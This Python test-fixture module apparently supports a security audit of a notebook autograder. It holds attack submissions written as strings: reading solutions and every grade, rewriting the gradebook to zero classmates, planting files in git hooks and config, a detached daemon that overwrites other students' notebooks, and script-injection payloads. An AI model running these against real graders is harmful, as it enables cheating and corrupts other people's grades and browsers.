"""Submissions that attack the grader, as data: one student per attack the audit of issue 17 used.

Each `Attack` is the body of the probe assignment's `double(x)` (tests/probe_course.py: two points,
`double(3) == 6` visible, `double(-4) == -8` hidden) followed by the attacking code, or a whole
folder (`files`) for submissions that are not notebooks. `{course}` in the code is the course's
absolute path: the attacker knows the layout. `score` is what an honest grader gives: the
answer's worth, whatever the attack did. The attacks on the test cells themselves (IPython hooks
that clear errors or print hidden tests, patched checks) need a validation whose tests run in the
grader's own kernel: they are Phase 1 kinds in tests/bad_submissions.py.
"""

from __future__ import annotations

from dataclasses import dataclass

import nbformat

RIGHT = "    return 2 * x\n"
BLANK = "    raise NotImplementedError()\n"
DAEMON_MARK = "course-attack-daemon"


@dataclass(frozen=True)
class Attack:
    body: str  # double's body, then the attack (top-level code of the same cell)
    score: float  # the honest score (of 2)
    about: str
    extra_cells: tuple = ()
    files: dict | None = None  # instead of a notebook: relative path -> bytes ({}: an empty folder)


READ_EVERYTHING = '''
import json, pathlib, sqlite3
found = [str(p) for p in [pathlib.Path("{course}") / n for n in ("solutions", "gradebook.db", "nbgrader_config.py", ".git", "submitted", "feedback")] if p.exists()]
found += [str(p) for base in pathlib.Path.cwd().parents for p in base.glob("*/gradebook.db")]
print("found:", found)
try:  # the reference answer, straight from the solutions
    source = json.loads((pathlib.Path("{course}") / "solutions" / "00_probe" / "probe.ipynb").read_text())
    exec("".join(source["cells"][1]["source"]))
    print("READ-OK")
except OSError as e:
    print("no solutions:", e)
try:  # and everybody's grades
    print(sqlite3.connect("file:{course}/gradebook.db?mode=ro", uri=True).execute("select * from grade").fetchall())
except sqlite3.Error as e:
    print("no gradebook:", e)
'''

WRITE_GRADEBOOK = '''
import glob, sqlite3
for db in ["{course}/gradebook.db", *glob.glob("{course}/.grading/*/runs/*/gradebook.db"), *glob.glob("../../../gradebook.db")]:
    try:
        con = sqlite3.connect(db)
        con.execute("update grade set extra_credit = 100")
        con.execute("update grade set auto_score = 0 where notebook_id in (select id from submitted_notebook)")
        con.commit()
        print("WROTE-OK", db)
    except sqlite3.Error as e:
        print("could not write", db, e)
'''

PLANT_FILES = '''
import os, pathlib
for path, text in [("{course}/solutions/00_probe/planted.txt", "copied into later runs"),
                   ("{course}/nbgrader_config.py", "\\nprint('code in the config')\\n"),
                   ("{course}/.git/hooks/post-commit", "#!/bin/sh\\necho owned\\n")]:
    try:
        with open(path, "a") as f:
            f.write(text)
        print("PLANTED-OK", path)
    except OSError as e:
        print("could not plant", path, e)
print("shell:", os.system("echo x >> {course}/solutions/00_probe/probe.ipynb"))
'''

# A daemon with a cleared environment (no grading tag), in its own session, that keeps rewriting
# every staged notebook it can reach: the next student's among them.
DAEMON = '''
import subprocess
script = "while true; do for f in {course}/.grading/00_probe/runs/*/submitted/*/00_probe/probe.ipynb; do echo '{{}}' > $f; done; sleep 0.2; done # __MARK__"
subprocess.Popen(["env", "-i", "setsid", "sh", "-c", script], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("daemon started")
'''.replace("__MARK__", DAEMON_MARK)

INJECT_HTML = '<script>alert("pwned-1")</script><img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a>'
INJECT = f'''
from IPython.display import HTML, Javascript, SVG, display
display(HTML({INJECT_HTML!r}))
display(Javascript('alert("pwned-3")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert("pwned-4")</script><circle r="5"/></svg>'))
'''
INJECT_MARKDOWN = '# Notes\n<script>alert("pwned-5")</script>\n<img src=x onerror="alert(5)">\n[x](javascript:alert(6))\n'

HUGE = '''
from IPython.display import HTML, display
display(HTML("<p>" + "x" * 30_000_000 + "</p>"))
'''

MARKUP_ERROR = '    raise ValueError("[/] [bold red]not markup[/] [link=file:///etc/passwd]x[/link]")\n'

ATTACKS: dict[str, Attack] = {
    "reads_solutions": Attack(BLANK + READ_EVERYTHING, 0, "reads the solutions and every grade, runs the reference answer"),
    "writes_gradebook": Attack(RIGHT + WRITE_GRADEBOOK, 2, "sets extra credit and zeroes classmates with sqlite3"),
    "plants_files": Attack(RIGHT + PLANT_FILES, 2, "plants files in solutions/, the config and .git/hooks"),
    "detached_daemon": Attack(RIGHT + DAEMON, 2, "an env -i setsid daemon that rewrites later students' notebooks"),
    "injects_script": Attack(RIGHT + INJECT, 2, "script, event handlers and JavaScript in outputs and markdown",
                             extra_cells=(nbformat.v4.new_markdown_cell(INJECT_MARKDOWN),)),
    "huge_output": Attack(RIGHT + HUGE, 2, "a 30 MB rich output"),
    "markup_error": Attack(MARKUP_ERROR, 0, "an exception whose text is rich markup"),
    "renamed_notebook": Attack("", 0, "the notebook handed in under another name",
                               files={"probe-Copy1.ipynb": None}),  # None: the right answer, renamed
    "not_a_notebook": Attack("", 0, "a file that is not valid JSON", files={"probe.ipynb": b'{"cells": [oops'}),
    "empty_folder": Attack("", 0, "an empty submission folder", files={}),
}
AFTER = "zz_after_attacks"  # the reference, graded after every attack: full marks
